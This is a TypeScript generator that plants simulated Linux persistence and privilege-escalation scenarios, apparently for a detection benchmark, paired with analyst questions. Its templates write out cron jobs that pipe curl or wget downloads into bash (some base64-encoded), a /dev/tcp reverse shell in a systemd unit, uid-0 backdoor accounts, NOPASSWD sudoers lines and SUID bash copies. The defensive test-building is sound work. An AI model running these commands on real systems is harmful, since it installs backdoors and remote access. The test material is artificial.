// Persistence and privilege: cron, systemd units, SSH keys, uid-0 accounts, sudoers rules, SUID shell copies.
import { cron, run, withDecoys, randName, type Family } from "./kit.js";
import { hostileIp, rsaKey, adminKey } from "./fleet.js";

const cronPersist: Family = {
  name: "cron-persistence", kind: "attack", attack: ["T1053.003", "T1105", "T1027"], count: 5,
  sources: ["Atomic Red Team T1053.003", "Sigma file_event_lnx_susp_cron_file_created", "Sigma proc_creation_lnx_base64_execution", "Sigma lnx_cron_crontab_file_modification"],
  q: {
    direct: ["any malicious cron jobs on {host}?", "check crontabs in {env} for curl | sh or base64", "is there cron persistence on the {role}?", "any scheduled task downloading scripts?"],
    paraphrase: ["is something set to come back every few minutes on {host}?", "did someone schedule a job that fetches stuff from the internet?", "is there anything that re-installs itself on a timer?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "cache", "broker", "monitoring"] as const));
    const h = b.h;
    const ip = hostileIp(rng);
    const script = rng.pick(["x.sh", "up.sh", "init.sh", "a", "s", "update"]);
    const b64 = Buffer.from(`curl -fsSL http://${ip}/${script}|bash`).toString("base64");
    const variant = rng.int(0, 3);
    const spool = h.spec.distro.pkg === "deb" ? "/var/spool/cron/crontabs/root" : "/var/spool/cron/root";
    const [path, sched, cmd] =
      variant === 0 ? [`/etc/cron.d/${rng.pick(["sysstat-update", "apt-compat", "0anacron", randName(rng, 6)])}`, "*/5 * * * *", `root curl -fsSL http://${ip}/${script} | sh`]
      : variant === 1 ? [spool, "@reboot", `/bin/bash -c 'echo ${b64} | base64 -d | bash'`]
      : variant === 2 ? ["/etc/crontab", "*/10 * * * *", `root (wget -q -O- http://${ip}:${rng.pick([8080, 80, 8000])}/${script} || curl -s http://${ip}/${script}) | bash > /dev/null 2>&1`]
      : [spool, "*/3 * * * *", `echo ${b64}|base64 -d|sh`];
    cron(h, path, sched, cmd);
    if (path.startsWith("/etc/cron.d/")) h.file(path, { mode: "0644", size: cmd.length + 20, mtime: h.recent(3_600, 86_400 * 5) });
    h.plant(cmd);
    if (variant !== 1 && variant !== 3) h.plant(ip);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: variant === 1 || variant === 3 ? [path] : [ip] });
  },
};

const UNIT_NAMES = ["systemd-update", "network-helper", "dbus-broker-helper", "kubelet-monitor", "sshd-keygen-helper", "cloud-sync", "php-fpm-helper", "rsyslog-daemon", "udev-worker", "gnome-updater"];

const systemdPersist: Family = {
  name: "systemd-persistence", kind: "attack", attack: ["T1543.002", "T1059.004"], count: 5,
  sources: ["Atomic Red Team T1543.002", "Sigma lnx_auditd_systemd_service_creation", "Elastic Security Labs: Linux Detection Engineering - A primer on persistence mechanisms (2024)"],
  q: {
    direct: ["any malicious systemd services on {host}?", "check for new systemd units in {env}", "is there a rogue service unit on the {role}?", "any systemd persistence on {host}?"],
    paraphrase: ["did someone install something that starts by itself at boot on {host}?", "would anything weird survive a reboot of {host}?", "is there a service on the {role} that we didn't set up?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "k8s", "ci-runner", "broker"] as const));
    const h = b.h;
    const name = rng.pick(UNIT_NAMES);
    const unit = `${name}.service`;
    const fpath = `/etc/systemd/system/${unit}`;
    const ip = hostileIp(rng);
    const port = rng.pick([443, 8443, 4444, 80, 53]);
    const binDir = rng.pick(["/usr/local/bin", "/usr/lib/systemd", "/var/lib", "/opt/.cache", "/usr/share/.dbus"]);
    const bin = `${binDir}/${name}d`;
    const useShell = rng.chance(0.35);
    const exec = useShell ? `/bin/bash -c bash -i >& /dev/tcp/${ip}/${port} 0>&1` : bin;
    h.unit(unit, rng.pick(["System Update Service", "Network Helper Daemon", "D-Bus Broker Helper", name]), { fragment: fpath });
    h.augeasUnit(fpath, [["Unit", "Description=System Update Service"], ["Service", `ExecStart=${exec}`], ["Service", "Restart=always"], ["Service", "RestartSec=30"], ["Install", "WantedBy=multi-user.target"]]);
    h.file(fpath, { mode: "0644", size: 240, mtime: h.recent(3_600, 86_400 * 5) });
    const pid = useShell
      ? run(h, { name: "bash", path: "/usr/bin/bash", cmdline: exec, cgroup: `/system.slice/${unit}` })
      : run(h, { name: `${name}d`, path: bin, cmdline: bin, cgroup: `/system.slice/${unit}` });
    if (!useShell) h.file(bin, { mode: "0755", size: rng.int(900_000, 6_000_000), mtime: h.recent(3_600, 86_400 * 5) });
    h.conn(pid, ip, port);
    h.plant(fpath, useShell ? `/dev/tcp/${ip}/${port}` : bin, ip);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [ip, fpath] });
  },
};

const sshKey: Family = {
  name: "ssh-key-planted", kind: "attack", attack: ["T1098.004"], count: 5,
  sources: ["Atomic Red Team T1098.004", "MITRE ATT&CK T1098.004 SSH Authorized Keys", "Sandfly Security: Linux SSH authorized_keys persistence"],
  q: {
    direct: ["any unauthorized SSH keys on {host}?", "were SSH authorized_keys modified in {env}?", "check root's authorized_keys on the {role}", "any planted SSH keys?"],
    paraphrase: ["could someone log into {host} without a password whenever they want?", "did anyone give themselves a permanent way back into {host}?", "is there a login we don't know about on the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "bastion", "k8s", "cache"] as const));
    const h = b.h;
    const target = rng.chance(0.5) ? { name: "root", uid: 0, home: "/root" } : rng.pick([...b.admins, b.cloudUser]);
    const key = rng.chance(0.6) ? rsaKey(rng) : adminKey(rng);
    const comment = rng.pick(["", "root@kali", "user@localhost", "x", "admin@DESKTOP-" + rng.alnum(7, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"), "deploy@build-box", "ubuntu@ip-172-31-" + rng.int(0, 255) + "-" + rng.int(0, 255)]);
    const keyFile = `${target.home}/.ssh/authorized_keys${rng.chance(0.2) ? "2" : ""}`;
    h.add("authorized_keys", { uid: target.uid, algorithm: key.startsWith("AAAAB3") ? "ssh-rsa" : "ssh-ed25519", key, options: "", comment, key_file: keyFile });
    h.file(keyFile, { uid: target.uid, gid: target.uid, mode: "0600", size: 400 + rng.int(0, 700), mtime: h.recent(3_600, 86_400 * 4) });
    const ip = hostileIp(rng);
    if (rng.chance(0.6)) {
      h.history(target.uid, target.home, ["cd ~", "mkdir -p ~/.ssh", `echo "${key.startsWith("AAAAB3") ? "ssh-rsa" : "ssh-ed25519"} ${key.slice(0, 60)}... ${comment}" >> ${keyFile}`, `chmod 600 ${keyFile}`], h.recent(3_600, 86_400 * 4));
    }
    if (rng.chance(0.5)) h.add("last", { username: target.name, tty: "pts/1", pid: h.allocPid(), type: 7, type_name: "user-process", time: h.recent(600, 80_000), host: ip });
    h.plant(key);
    if (comment.length > 2) h.plant(comment);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: comment.length > 2 ? [comment] : [] });
  },
};

const uid0: Family = {
  name: "uid0-account", kind: "attack", attack: ["T1136.001", "T1078.003"], count: 4,
  sources: ["Atomic Red Team T1136.001: Create a new user in Linux with `root` UID and GID", "Sigma lnx_privileged_user_creation", "Sigma lnx_auditd_create_account"],
  q: {
    direct: ["any accounts with uid 0 besides root on {host}?", "was a backdoor root account created in {env}?", "check /etc/passwd on the {role} for duplicate root users", "any new privileged local accounts?"],
    paraphrase: ["is there a second all-powerful user on {host}?", "did someone make themselves an account that can do anything?", "any new logins created on the {role} recently?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "db", "app", "bastion", "monitoring"] as const));
    const h = b.h;
    const name = rng.pick(["toor", "sysadmin", "support", "systemd-net", "backup1", "admin2", "nagios1", "mysql-sys", "ftpuser0"]);
    h.add("users", { uid: 0, gid: 0, uid_signed: 0, gid_signed: 0, username: name, description: "", directory: rng.pick(["/root", `/home/${name}`, "/var/lib/.sys"]), shell: "/bin/bash", uuid: "" });
    h.add("user_groups", { uid: 0, gid: 0 });
    h.add("shadow", { password_status: "active", hash_alg: "6", last_change: Math.floor(h.now / 86_400) - rng.int(0, 3), min: 0, max: 99999, warning: 7, inactive: -1, expire: -1, flag: -1, username: name });
    const r = h.rows("file").find((f) => f.path === "/etc/passwd");
    if (r) r.mtime = String(h.recent(3_600, 86_400 * 3));
    h.history(0, "/root", [`useradd -o -u 0 -g 0 -M -d /root -s /bin/bash ${name}`, `echo "${name}:${rng.alnum(10)}" | chpasswd`, "history -c"].slice(0, rng.int(1, 3)), h.recent(3_600, 86_400 * 3));
    h.plant(name);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [name] });
  },
};

const sudoersRule: Family = {
  name: "sudoers-nopasswd", kind: "attack", attack: ["T1548.003", "T1098"], count: 4,
  sources: ["Sigma file_event_lnx_persistence_sudoers_files", "Atomic Red Team T1548.003", "MITRE ATT&CK T1548.003 Sudo and Sudo Caching"],
  q: {
    direct: ["any suspicious sudoers rules on {host}?", "was a NOPASSWD sudo rule added in {env}?", "who can sudo without a password on the {role}?", "check sudoers for privilege escalation backdoors"],
    paraphrase: ["did anyone become root without a password on {host}?", "can some account on {host} get admin rights without being asked for a password?", "did someone quietly give an account full admin on the {role}?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "ci-runner"] as const));
    const h = b.h;
    const variant = rng.int(0, 2);
    if (variant === 0) {
      const user = b.svc["php-fpm"] || b.svc.apache2 ? "www-data" : b.svc.tomcat ? "tomcat" : "nobody";
      const src = `/etc/sudoers.d/${rng.pick(["README", "99-sys", "0-update", "zz-local", randName(rng, 5)])}`;
      h.add("sudoers", { source: src, header: user, rule_details: "ALL=(ALL) NOPASSWD: ALL" });
      h.file(src, { mode: "0440", size: 40, mtime: h.recent(3_600, 86_400 * 3) });
      h.plant(src);
    } else {
      const user = rng.pick(["svc-backup", "supportx", "dbadmin2", "jenkins1", "zabbix-agent2", "updater"]);
      h.add("users", { uid: 1200 + rng.int(0, 50), gid: 1200, uid_signed: 1200, gid_signed: 1200, username: user, description: "", directory: `/home/${user}`, shell: "/bin/bash", uuid: "" });
      h.add("sudoers", { source: "/etc/sudoers", header: user, rule_details: rng.pick(["ALL=(ALL:ALL) NOPASSWD:ALL", "ALL=(ALL) NOPASSWD: ALL", "ALL=NOPASSWD: /bin/bash"]) });
      h.history(0, "/root", [`useradd -m -s /bin/bash ${user}`, `echo '${user} ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers`], h.recent(3_600, 86_400 * 3));
      h.plant(user);
    }
    return withDecoys(ctx, { hosts: [{ b, compromised: true }] });
  },
};

const suidShell: Family = {
  name: "suid-shell", kind: "attack", attack: ["T1548.001"], count: 4,
  sources: ["Atomic Red Team T1548.001: Set a SetUID flag on file", "Sigma proc_creation_lnx_setgid_setuid", "GTFOBins: bash (SUID)"],
  q: {
    direct: ["any rogue SUID binaries on {host}?", "is there a setuid shell copy in /tmp?", "check the {role} for unexpected suid files", "any SUID backdoors in {env}?"],
    paraphrase: ["is there a file on {host} that lets any user become root?", "did someone leave themselves a shortcut to admin on {host}?", "can a normal user on the {role} run something that makes them root?"],
  },
  build(ctx) {
    const { rng } = ctx;
    const b = ctx.base(rng.pick(["web", "app", "db", "bastion", "cache"] as const));
    const h = b.h;
    const dir = rng.pick(["/tmp", "/tmp", "/var/tmp", "/dev/shm", "/usr/local/bin"]);
    const name = rng.pick([".x", ".bash", ".sh", "...", ".ICE", "dbus-daemon", ".sshd"]);
    const path = `${dir}/${name}`;
    const bashSha = rng.hex(64);
    h.hash("/usr/bin/bash", bashSha);
    h.hash(path, bashSha);
    h.file(path, { mode: "4755", size: 1_446_024, mtime: h.recent(3_600, 86_400 * 4) });
    if (dir === "/tmp" || dir === "/usr/local/bin") h.add("suid_bin", { path, username: "root", groupname: "root", permissions: "S" });
    h.history(0, "/root", [`cp /bin/bash ${path}`, `chmod u+s ${path}`, `ls -la ${dir}`], h.recent(3_600, 86_400 * 4));
    if (rng.chance(0.5)) {
      const su = rng.pick([b.cloudUser, ...b.admins]);
      run(h, { name: name.slice(0, 15), path, cmdline: `${path} -p`, uid: su.uid, euid: 0, cwd: su.home });
    }
    h.plant(path);
    return withDecoys(ctx, { hosts: [{ b, compromised: true }], indicators: [path] });
  },
};

export const PERSISTENCE_FAMILIES: Family[] = [cronPersist, systemdPersist, sshKey, uid0, sudoersRule, suidShell];
